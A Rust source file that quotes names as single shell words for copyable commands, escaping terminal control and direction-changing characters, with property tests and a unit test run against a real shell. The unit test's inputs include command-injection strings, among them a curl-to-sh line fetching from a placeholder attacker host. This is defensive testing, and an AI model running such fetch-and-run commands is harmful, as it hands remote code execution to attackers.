//! Commands for people to copy.

use std::borrow::Cow;

/// `text` as one word of a shell, for commands that people copy: names come from other programs. Characters
/// that act on a terminal when they are shown or pasted are written as octal digits, except the
/// newline, which is harmless between quotes. NUL, which no argument can have, is left out.
///
/// ```
/// use emberline_api::shell_quoted;
///
/// assert_eq!(shell_quoted("worker-1"), "worker-1");
/// assert_eq!(shell_quoted("aa; id #"), "'aa; id #'");
/// assert_eq!(shell_quoted("it's\u{7}"), r#"'it'\''s'"$(printf '\007')""#);
/// ```
#[must_use]
pub fn shell_quoted(text: &str) -> Cow<'_, str> {
    if !text.is_empty() && text.chars().all(is_plain) {
        return text.into();
    }
    let mut word = String::from("'");
    for character in text.chars() {
        match character {
            '\0' => {}
            '\'' => word.push_str(r"'\''"),
            character if acts_on_terminals(character) => {
                word.push_str(r#"'"$(printf '"#);
                for byte in character.encode_utf8(&mut [0; 4]).bytes() {
                    word.push_str(&format!("\\{byte:03o}"));
                }
                word.push_str(r#"')"'"#);
            }
            character => word.push(character),
        }
    }
    word.push('\'');
    // Empty quotes next to other parts add nothing to the word.
    let shorter = word.strip_suffix("''").filter(|rest| rest.ends_with('"'));
    shorter.map_or(word.clone(), str::to_owned).into()
}

/// A character that no shell treats in a special way.
fn is_plain(character: char) -> bool {
    character.is_ascii_alphanumeric() || "-_./:@,+%".contains(character)
}

/// Control characters, and those that change the direction of a line.
fn acts_on_terminals(character: char) -> bool {
    let is_control = character.is_control() && character != '\n';
    is_control
        || matches!(
            character,
            '\u{61c}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{2069}'
                | '\u{feff}'
        )
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use proptest::prelude::*;

    use super::*;

    /// The words that a command gets from a shell.
    fn read_by_shell(words: &[String]) -> String {
        let words: Vec<_> = words.iter().map(|word| shell_quoted(word)).collect();
        let script = format!("printf '%s|' {}", words.join(" "));
        let output = Command::new("sh").args(["-c", &script]).output().unwrap();
        assert!(
            output.status.success() && output.stderr.is_empty(),
            "{script:?}: {output:?}"
        );
        String::from_utf8(output.stdout).unwrap()
    }

    fn check(words: &[String]) {
        let expected: String = words
            .iter()
            .map(|word| format!("{}|", word.replace('\0', "")))
            .collect();
        assert_eq!(read_by_shell(words), expected);
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        #[test]
        fn a_shell_reads_each_word_as_it_is(
            words in prop::collection::vec(
                prop_oneof![
                    any::<String>(),
                    "[\u{0}-\u{a0}]{0,20}",
                    "[-'\"$`\\\\;|&<>(){}*?~#!=%\\[\\] \n\r\t\u{1b}\u{7f}\u{202e}a0]{0,20}",
                ],
                1..8,
            ),
        ) {
            check(&words);
            for word in &words {
                let quoted = shell_quoted(word);
                prop_assert!(!quoted.chars().any(acts_on_terminals), "{quoted:?}");
            }
        }
    }

    #[test]
    fn commands_in_names_are_no_commands() {
        let words = [
            "",
            "aa;curl http://evil.example/x|sh #",
            "$(id)",
            "`id`",
            "a\nid\n",
            "\n",
            "it's",
            "-x",
            "\u{3}\u{1b}[A",
            "\u{85}",
            "${IFS}",
            "~",
            "*",
            "\\",
            "'",
            "''",
            "a'\u{7}'b",
            "!!",
        ];
        check(&words.map(str::to_owned));
    }
}
